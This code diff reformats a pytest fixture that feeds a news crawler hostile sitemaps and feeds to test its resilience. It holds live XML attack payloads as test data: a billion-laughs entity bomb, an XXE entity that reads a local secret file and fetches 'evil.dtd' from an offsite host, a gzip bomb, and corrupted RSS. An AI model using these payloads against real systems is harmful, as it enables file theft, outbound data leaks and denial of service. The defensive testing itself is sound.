@@ -32,8 +32,7 @@ ONLY_IN_BROKEN_FEED, ONLY_IN_LAUGHS = "780291", "780290"
 XXE_TARGET_ID, LAUGHS_TARGET_ID = "780299", "780297"
 """The id in the XXE sitemap's <loc>, whose path ends in the entity reference."""
 
-LAUGHS_DTD = '<!ENTITY lol0 "lol">' + "".join(
-    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
+LAUGHS_DTD = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
 """Nine levels of ten: &lol9; would expand to 10**9 'lol's (3 GB)."""
 
 
@@ -50,9 +49,12 @@ class Run:
 
 
 def _urlset(urls: str, doctype: str = "") -> bytes:
-    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
-            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
-            'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + urls + "</urlset>\n").encode()
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>\n'
+        + doctype
+        + '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + urls + "</urlset>\n"
+    ).encode()
 
 
 @pytest.fixture(scope="module")
@@ -73,8 +75,11 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
     since = min(a.published for a in corpus.articles()).strftime("%Y-%m-01")
 
     with OffsiteHost() as offsite, serve_site(corpus, [MirrorSpec("healthy", name="primary")]) as site:
-        hostile = [f"/SiteMap/{month}/sitemap-laughs.xml", f"/SiteMap/{month}/sitemap-xxe.xml",
-                   f"/SiteMap/{month}/sitemap-bomb.xml.gz"]
+        hostile = [
+            f"/SiteMap/{month}/sitemap-laughs.xml",
+            f"/SiteMap/{month}/sitemap-xxe.xml",
+            f"/SiteMap/{month}/sitemap-bomb.xml.gz",
+        ]
 
         def index(req: SiteRequest) -> Reply:
             base = req.mirror.base_url
@@ -85,26 +90,47 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
 
         site.override("/sitemap.xml", index)
         # libxml2 stops at the bomb (its amplification limit); what comes before it is still read.
-        site.override(hostile[0], faults.body(_urlset(
-            f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{LAUGHS_TARGET_ID}/&lol2;</loc></url>"
-            f"<url><loc>https://www.presstv.ir{laughs_path}</loc><news:news><news:publication_date>"
-            f"{now.isoformat()}+03:30</news:publication_date><news:title>&lol9;</news:title></news:news></url>",
-            f"<!DOCTYPE urlset [{LAUGHS_DTD}]>\n"), "application/xml"))
-        site.override(hostile[1], faults.body(_urlset(
-            f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{XXE_TARGET_ID}/&xxe;</loc>"
-            "<news:news><news:title>&xxe; &remote;</news:title></news:news></url>",
-            f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
-            f'<!ENTITY remote SYSTEM "{offsite.base_url}/evil.dtd">]>\n'), "application/xml"))
+        site.override(
+            hostile[0],
+            faults.body(
+                _urlset(
+                    f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{LAUGHS_TARGET_ID}/&lol2;</loc></url>"
+                    f"<url><loc>https://www.presstv.ir{laughs_path}</loc><news:news><news:publication_date>"
+                    f"{now.isoformat()}+03:30</news:publication_date><news:title>&lol9;</news:title></news:news></url>",
+                    f"<!DOCTYPE urlset [{LAUGHS_DTD}]>\n",
+                ),
+                "application/xml",
+            ),
+        )
+        site.override(
+            hostile[1],
+            faults.body(
+                _urlset(
+                    f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{XXE_TARGET_ID}/&xxe;</loc>"
+                    "<news:news><news:title>&xxe; &remote;</news:title></news:news></url>",
+                    f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
+                    f'<!ENTITY remote SYSTEM "{offsite.base_url}/evil.dtd">]>\n',
+                ),
+                "application/xml",
+            ),
+        )
         site.override(hostile[2], faults.body(gzip_bomb(200), "application/x-gzip"))
         # The main feed breaks off mid-item, with stray bytes: the items before the damage are still read.
         feed = corpus.rss()
-        broken = (feed.split(b"<item>")[0]
-                  + f"<item><link>https://www.presstv.ir{broken_feed_path}</link><title>Recovered</title></item>".encode()
-                  + b"<item><link>https://www.presstv.ir/Detail/2026/01/01/780298/x</link><title>cut \x00\xff <b>")
+        broken = (
+            feed.split(b"<item>")[0]
+            + f"<item><link>https://www.presstv.ir{broken_feed_path}</link><title>Recovered</title></item>".encode()
+            + b"<item><link>https://www.presstv.ir/Detail/2026/01/01/780298/x</link><title>cut \x00\xff <b>"
+        )
         site.override("/rss.xml", faults.body(broken, "application/rss+xml"))
         site.override("/rss/rss-101.xml", faults.body(b"\x00\x01\x02 not a feed at all", "application/rss+xml"))
-        result = crawl(out, site.mirrors_arg, "sources=rss,sitemap", f"since={since}",
-                       settings={"CRAWLER_STORE": str(out / "store.sqlite")})
+        result = crawl(
+            out,
+            site.mirrors_arg,
+            "sources=rss,sitemap",
+            f"since={since}",
+            settings={"CRAWLER_STORE": str(out / "store.sqlite")},
+        )
         log = list(site.log)
     final = StoreCheck("feed and sitemap faults", out / "store.sqlite", corpus.article_ids())
     yield Run(result, StoreView(out / "store.sqlite"), corpus, out, log, list(offsite.contacts), token, month)
